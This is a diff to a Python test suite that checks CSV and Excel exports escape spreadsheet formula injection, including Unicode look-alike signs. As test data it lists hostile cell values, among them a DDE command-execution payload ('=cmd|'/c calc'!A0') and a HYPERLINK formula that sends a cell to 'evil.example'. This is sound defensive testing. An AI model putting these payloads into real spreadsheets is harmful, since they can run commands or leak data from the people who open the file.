@@ -11,6 +11,7 @@ import math
 import os
 import random
 import stat
+import unicodedata
 import zipfile
 from decimal import Decimal
 from pathlib import Path
@@ -27,9 +28,11 @@ from rlm_secure.inert import inert
 MOMENT = datetime.datetime(2024, 1, 2, 3, 4, 5)
 FORMULAS = [
     "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000@x", "'=1", '"=1', "\"' =1",
-    "\u200b=1", "\ufeff=1", "\u200d=1", "\u202e=1", "\u2060+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "\u22121", "\t", "\rx", "\nx",
-    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=IMPORTXML(1)", "-2+3+cmd|' /C calc'!A0", "\x00=1", "\x01=1", "\u2018=1", "\u201c=1", "`=1",
+    "\u200d=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "\u22121", "\tx", "\rx", "\nx", "\x0b=1", "\x85=1", "\ufe661", "\ufb291",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=IMPORTXML(1)", "-2+3+cmd|' /C calc'!A0", "\u2018=1", "\u201c=1", "`=1",
 ]  # fmt: skip
+#: These begin with a character that is written as its number, and so with a backslash: no sign is at the beginning.
+NUMBERED = ["\u200b=1", "\ufeff=1", "\u202e=1", "\u2060+1", "\x00=1", "\x01=1", "\x7f@x", "\ud800=1", "\uffff=1"]
 HARMLESS = ["a=b", "1", "007", "", "x-y", "a@b.example", "https://evil.example/", "a;=1+1", "a\t=1", 'x"y', "x\ny", "é", "مرحبا", "👨\u200d👩", "#REF!", "TRUE"]
 
 
@@ -51,6 +54,21 @@ def test_no_text_of_a_csv_is_a_formula(tmp_path: Path, text: str) -> None:
     (name, _), (cell, _) = fields(path)
     assert name == cell and cell.startswith("'")
     assert any("apostrophe" in note for note in notes)
+
+
+def test_every_character_that_stands_for_a_sign_counts_as_one(tmp_path: Path) -> None:
+    signs = [each for each in map(chr, range(0x110000)) if unicodedata.normalize("NFKC", each)[:1] in tuple("=+-@")]
+    assert len(signs) > 12
+    path, _ = written(tmp_path, Table({"a": [f"{each}1" for each in signs]}), "a.csv")
+    assert [field for (field,) in fields(path)[1:] if not field.startswith("'")] == []
+
+
+@pytest.mark.parametrize("text", NUMBERED)
+def test_a_character_that_hides_before_a_sign_is_written_as_its_number(tmp_path: Path, text: str) -> None:
+    path, notes = written(tmp_path, Table({text: [text], "n": [1]}), "a.csv")
+    (name, _), (cell, _) = fields(path)
+    assert name == cell and cell.startswith("\\") and cell.endswith(text[1:])
+    assert any("as their numbers" in note for note in notes)
 
 
 @pytest.mark.parametrize("text", HARMLESS)
@@ -99,7 +117,7 @@ def test_a_csv_that_is_read_again_is_the_same_table(tmp_path: Path) -> None:
 
     table = Table({
         "int": column(lambda: drawn.randint(-(10**30), 10**30)), "float": column(lambda: drawn.uniform(-1, 1) * 10 ** drawn.randint(-300, 300)),
-        "text": column(lambda: "".join(drawn.choices("ab ,;\"\n'é", k=drawn.randint(1, 9))) + "."), "bool": column(lambda: drawn.random() < 0.5),
+        "text": column(lambda: drawn.choice("ab ,;\"'é") + "".join(drawn.choices("ab ,;\"\n'é", k=drawn.randint(0, 8))) + "."), "bool": column(lambda: drawn.random() < 0.5),
         "zip": column(lambda: f"0{drawn.randint(0, 99)}"), "zero": [-0.0] * 2000, "last": [1] * 2000,
     })  # fmt: skip
     path, notes = written(tmp_path, table, "a.csv")
@@ -112,7 +130,7 @@ def test_a_csv_that_is_read_again_is_the_same_table(tmp_path: Path) -> None:
 
 def test_no_cell_of_a_workbook_is_a_formula_or_a_link(tmp_path: Path) -> None:
     openpyxl = pytest.importorskip("openpyxl")
-    texts = [*FORMULAS, *HARMLESS]
+    texts = [*FORMULAS, *NUMBERED, *HARMLESS]
     table = Table({"=name": texts, "@x": texts, "n": [-5] * len(texts)})
     path, _ = written(tmp_path, table, "a.xlsx")
     sheet = openpyxl.load_workbook(path).active
